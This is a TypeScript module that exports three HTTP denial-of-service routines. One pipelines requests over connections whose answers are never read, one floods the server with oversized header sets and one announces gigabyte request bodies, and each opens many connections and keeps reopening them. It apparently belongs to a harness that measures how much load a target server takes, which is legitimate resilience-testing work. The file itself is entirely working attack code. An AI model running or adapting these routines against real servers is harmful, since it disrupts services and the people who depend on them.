import { forgedHead, forgedHeadOf } from './heads.ts'
import { attackWith, type Target } from './target.ts'

/** As many requests as fit over connections whose answers are never read. */
export const pipelining = (target: Target): Promise<void> => {
  const requests = Buffer.from(`${forgedHeadOf(2)}{}`.repeat(100))
  return attackWith(target, {
    count: 40,
    reopenMs: 1000,
    deaf: true,
    async use(client) {
      while (await client.send(requests)) target.effort.requests += 100
    },
  })
}

/** Thousands of headers, with every second client within the size that Node.js reads, with the others far beyond it. */
export const manyHeaders = (target: Target): Promise<void> => {
  const within = `${forgedHead('Content-Length: 0', ...numbered(1900))}\r\n`
  const beyond = `${forgedHead('Content-Length: 0', ...numbered(100_000))}\r\n`
  return attackWith(target, {
    count: 16,
    reopenMs: 25,
    async use(client, index) {
      const request = index % 2 === 0 ? within : beyond
      while ((await client.request(request)) && (await client.answer())) if (target.signal.aborted) return
    },
  })
}

const numbered = (count: number): string[] =>
  Array.from({ length: count }, (_, index) => `${index.toString(36)}:1`)

/** Announces bodies that are too large, and goes away when they are refused. */
export const announcedGigabytes = (target: Target): Promise<void> =>
  attackWith(target, {
    count: 64,
    reopenMs: 5,
    async use(client) {
      if (await client.request(forgedHeadOf(2 ** 30))) await client.answer()
    },
  })
